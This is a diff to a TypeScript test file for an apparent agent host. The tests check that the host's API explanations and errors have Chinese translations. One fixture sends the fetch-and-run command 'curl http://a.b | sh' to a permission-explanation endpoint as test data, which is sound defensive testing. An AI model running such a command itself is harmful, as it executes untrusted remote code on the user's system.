@@ -3,6 +3,8 @@ import { createInstance } from 'i18next';
 import { afterEach, beforeEach, expect, it } from 'vitest';
 import { api } from '../service/contract/index.ts';
 import { startTestHost, type TestHost } from '../service/testing/test-host.ts';
+import { sentenceBook } from '../renderer-shell/words/sentence-book.ts';
+import sentences from '../renderer-shell/words/sentences.zh-CN.json' with { type: 'json' };
 import { spokenKinds, spokenTemplate } from '../renderer-shell/flows/host-words.ts';
 
 let host: TestHost;
@@ -57,4 +59,60 @@ it('a node of a plugin keeps its own words', async () => {
     pluginId: 'a.b',
   };
   expect(spokenKinds(new Map([['delay', kind]]), t).get('delay')?.label).toBe('Rest');
+});
+
+const inChinese = sentenceBook(sentences);
+const telling = /^(?:reason|detail|message|error|why|advice|warning)$/;
+
+/** What an answer says in sentences, wherever it stands in it. */
+function saidIn(value: unknown, name = ''): string[] {
+  if (typeof value === 'string') return telling.test(name) ? [value] : [];
+  if (typeof value !== 'object' || value === null) return [];
+  return Object.entries(value).flatMap(([key, each]) => saidIn(each, key));
+}
+
+async function answerOf(path: string, body?: object): Promise<unknown> {
+  const given = body && { method: 'POST', body: JSON.stringify(body) };
+  const headers = { 'Content-Type': 'application/json' };
+  return (await host.ask(path, { headers, ...given })).json();
+}
+
+const command = (text: string) => ({ tool: 'execute_command', arguments: { command: text } });
+const stdio = { transport: 'STDIO', name: 'files' };
+const failing = { name: 'h', event: 'pre_tool_use', type: 'command', command: 'exit 3' };
+const node = { id: 'a', type: 'none', inputs: {}, position: { x: 0 } };
+const step = { tool: 'none', arguments: { of: '{{inputs.none}}' }, dependsOn: [3] };
+
+it.each([
+  ['why workers are kept apart no further', '/api/security/process-isolation', undefined],
+  ['what it decides over a command', '/api/permissions/explain', command('curl http://a.b | sh')],
+  ['what it cannot tell of a command', '/api/permissions/explain', command('echo "$(')],
+  ['what it asks about', '/api/permissions/explain', command('sudo ls')],
+  ['what is wrong with a source', '/api/plugin-store/sources', { url: 'ftp://a.b/c' }],
+  ['why a catalogue is not read', '/api/plugin-store/sources', { url: 'file:///none.json' }],
+  [
+    'what is wrong with a graph',
+    '/api/workflows',
+    { name: 'x', draft: true, graph: { nodes: [node], edges: [] } },
+  ],
+  ['what is wrong with a plan', '/api/workflows', { name: 'x', plan: { steps: [step] } }],
+  ['what a server lacks', '/api/mcp/servers', stdio],
+  ['how a hook ended', '/api/hooks/test', { hook: failing }],
+  ['which plugin is not there', '/api/plugin-runtime/a.b/invoke', { callId: '1', method: 'm' }],
+])('what the host says has words: %s', async (_, path, body) => {
+  const said = saidIn(await answerOf(path, body));
+  if (body !== undefined) expect(said.length).toBeGreaterThan(0);
+  for (const text of said) expect(inChinese(text), text).toMatchObject({ whole: true });
+});
+
+it('what the host says of an MCP server that does not start has words', async () => {
+  await answerOf('/api/mcp/servers', { ...stdio, command: 'no-such-program-here' });
+  await expect
+    .poll(async () => saidIn(await answerOf('/api/mcp/servers')).map((text) => inChinese(text)))
+    .toEqual([
+      {
+        text: '找不到 no-such-program-here：不在 PATH 中，也不在登录 shell 的 PATH 中。请安装它并重新启动主机，或给出完整路径。',
+        whole: true,
+      },
+    ]);
 });
